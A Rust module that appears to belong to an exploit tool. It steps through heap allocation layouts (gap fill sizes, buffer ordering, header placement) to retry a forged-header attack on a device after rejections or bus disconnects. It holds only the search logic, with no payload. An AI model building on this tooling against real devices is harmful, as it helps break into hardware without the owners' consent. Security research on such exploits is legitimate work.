//! Parameter search over the allocation configurations an attempt can use.
//!
//! The dimensions are walked like an odometer: the buffer toggles turn
//! fastest, then the gap fill size, then the in-gap assumption. The gap walk
//! starts at the estimate, climbs in chunk steps up to the bound, then turns
//! around below the estimate and walks down to zero.

use crate::profile::ExploitParameters;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    Up,
    Down,
}

/// Why the previous attempt did not succeed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptFailure {
    /// The device rejected the forged header.
    Rejected { status: u16 },
    /// The device dropped off the bus while processing the forged header.
    Disconnected,
    /// Something other than the parameters went wrong.
    Fatal,
}

impl AttemptFailure {
    pub fn is_recoverable(&self) -> bool {
        !matches!(self, AttemptFailure::Fatal)
    }
}

/// Bounds of the search.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SearchSpace {
    pub chunk_size: u32,
    pub estimated_gap_size: u32,
    pub header_allocation_size: u32,
    pub experimental: bool,
}

impl SearchSpace {
    /// Gap walk starting point, the estimate rounded down to a chunk.
    pub fn start_gap(&self) -> u32 {
        self.estimated_gap_size / self.chunk_size * self.chunk_size
    }

    pub fn max_gap_fill(&self) -> u32 {
        let factor = if self.experimental { 4 } else { 2 };
        let max = self.estimated_gap_size.saturating_mul(factor);
        max / self.chunk_size * self.chunk_size
    }

    pub fn max_attempts(&self) -> u32 {
        let toggles = if self.experimental { 8 } else { 4 };
        (self.max_gap_fill() / self.chunk_size + 1) * toggles
    }

    pub fn initial(&self) -> SearchCursor {
        SearchCursor {
            parameters: ExploitParameters {
                gap_fill_size: self.start_gap(),
                header_allocation_size: self.header_allocation_size,
                allocate_async_buffers_first: false,
                assume_second_header_falls_in_gap: true,
                allocate_backup_buffers_first: false,
            },
            direction: Direction::Up,
        }
    }

    fn advance_gap(&self, gap: u32, direction: Direction) -> Option<(u32, Direction)> {
        let chunk = self.chunk_size;
        let up = gap.checked_add(chunk).filter(|&next| next <= self.max_gap_fill());
        match (direction, up) {
            (Direction::Up, Some(next)) => Some((next, Direction::Up)),
            (Direction::Up, None) if self.start_gap() >= chunk => {
                Some((self.start_gap() - chunk, Direction::Down))
            }
            (Direction::Down, _) if gap >= chunk => Some((gap - chunk, Direction::Down)),
            _ => None,
        }
    }
}

/// Position of the search.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SearchCursor {
    pub parameters: ExploitParameters,
    pub direction: Direction,
}

/// Picks the parameters of the next attempt, or `None` once the failure is
/// fatal or every candidate was tried.
pub fn next_candidate(
    space: &SearchSpace,
    failure: AttemptFailure,
    cursor: &SearchCursor,
) -> Option<SearchCursor> {
    if !failure.is_recoverable() {
        return None;
    }

    let mut next = *cursor;
    let p = &mut next.parameters;

    if space.experimental {
        p.allocate_backup_buffers_first = !p.allocate_backup_buffers_first;
        if p.allocate_backup_buffers_first {
            return Some(next);
        }
    }

    p.allocate_async_buffers_first = !p.allocate_async_buffers_first;
    if p.allocate_async_buffers_first {
        return Some(next);
    }

    if let Some((gap, direction)) = space.advance_gap(p.gap_fill_size, cursor.direction) {
        p.gap_fill_size = gap;
        next.direction = direction;
        return Some(next);
    }

    if p.assume_second_header_falls_in_gap {
        p.assume_second_header_falls_in_gap = false;
        p.gap_fill_size = space.start_gap();
        next.direction = Direction::Up;
        return Some(next);
    }

    None
}
